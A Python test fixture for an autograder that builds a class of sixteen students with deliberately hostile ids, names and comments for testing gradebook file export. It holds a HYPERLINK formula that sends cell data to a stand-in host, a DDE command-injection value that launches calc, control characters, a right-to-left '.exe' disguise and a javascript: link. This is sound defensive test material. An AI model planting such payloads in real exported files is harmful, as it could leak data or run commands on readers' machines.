"""A class of sixteen whose ids, names and comments attack whoever writes and reads files."""

from __future__ import annotations

from datetime import UTC, datetime
from decimal import ROUND_HALF_UP, Decimal

from autograder.gradebook.people import Person, Roster
from autograder.gradebook.standing import ExerciseStanding, Standing, State

ASSIGNMENT = "hw-1"
TITLE = 'HW "1", part=2; α'
MAXIMUM = 10_000
FORMULA = '=HYPERLINK("http://x.y?"&A1,"ok")'
ODD = "half\udcff"  # an id from a file name that is no UTF-8
CONTROL = "ctrl\x0bid"
# id, full name, first, last, section, state, score, penalty
_PEOPLE: list[tuple[str, str, str, str, str, State, int | None, int]] = [
    ("007", "", "Jane", "Doe, Esq.", "Sec A", "final", 0, 0),
    ("0042", "", "Jane", "Doe, Esq.", "Sec, B", "final", 8_500, 1_500),
    ("a,b", 'Ann "A" Example', "", "", '"quoted"', "final", 10_000, 0),
    ("=1+1", FORMULA, "", "", "=1+1", "final", 7_125, 0),
    ("ñandú-Ж", "名前\u3000例", "", "", "@x", "final", 1_005, 1_005),
    ("line\nbreak", "Zoë\r\nBeispiel", "", "", "a\tb", "final", 12_000, 0),
    (CONTROL, "\x00\x1b[2J\x07bell", "", "", "\x08", "final", 3_333, 0),
    (ODD, "half \ud800 name", "", "", "\udc80", "final", 2_004, 0),
    ("q\"u;o'te", "x;=cmd|' /C calc'!A0", "", "", "-1", "final", 9_994, 0),
    ("1e5", "-2+3", "", "", "+1", "final", 5, 0),
    ("\u202eltr", "\u202egnp.exe", "", "", "\u2066", "open", None, 0),
    ("#N/A", "@SUM(1)", "", "", "", "absent", None, 0),
    ("TRUE", "\ufeff=1", "", "", "", "excused", None, 0),
    ("12/03", "\t=1", "", "", "", "rejected", None, 0),
    ("a;b", "[x](javascript:1)<b>", "", "", "", "ungraded", None, 0),
    ("points-per-question", "Student, Test", "", "", "", "final", 4_000, 0),
]


def _person(place: int, id_: str, name: str, first: str, last: str, section: str) -> Person:
    keys = {
        "canvas_id": str(1_000 + place),
        "sis_user_id": id_,
        "sis_login_id": f"login-{place}",
        "moodle_id": str(70_000 + place),
        "username": f"user_{place}",
        "org_defined_id": id_,
        "lti_user_id": f"sub-{place}-00{place}",
    }
    return Person(id_, name, first, last, f"s{place}@example.org", section, keys)


def _standing(place: int, id_: str, state: State, score: int | None, penalty: int) -> Standing:
    judged = state in ("final", "open")
    part = None if score is None else min(score, 4_000)
    exercises = (
        ExerciseStanding("b_second", FORMULA, part, 4_000, status="passed" if part else "failed"),
        ExerciseStanding("A_first", "First: <a/>", 0 if judged else None, 6_000, status="manual"),
        ExerciseStanding("bonus", "Bonus", None, 2_000, stretch=True),
    )
    return Standing(
        assignment=ASSIGNMENT,
        student=id_,
        state=state,
        score=score,
        max_score=MAXIMUM,
        so_far=3_000 if state == "open" else None,
        manual_open=6_000 if state == "open" else 0,
        penalty=penalty,
        submitted_at=datetime(2026, 10, 25, 0, 30, place, 250_000, UTC) if judged else None,
        exercises=exercises if judged else (),
        comments=("Well <done> & =1+1", 'a "second",\nline') if place % 2 else (),
        note="the instructor's own note",
    )


STANDINGS = tuple(
    _standing(place, row[0], row[5], row[6], row[7]) for place, row in enumerate(_PEOPLE)
)
ROSTER = Roster(tuple(_person(place, *row[:5]) for place, row in enumerate(_PEOPLE)))
STUDENTS = frozenset(row[0] for row in _PEOPLE)


def points(amount: int) -> Decimal:
    """What a file should say: half up at two decimals, by another way than the writers'."""
    return (Decimal(amount) / 1000).quantize(Decimal("0.01"), ROUND_HALF_UP)


SCORES = {s.student: points(s.score) for s in STANDINGS if s.score is not None}
WITHOUT = STUDENTS - SCORES.keys()


def spelt(id_: str) -> str:
    """An id in UTF-8, which has no half characters."""
    return id_.encode("utf-8", "backslashreplace").decode()
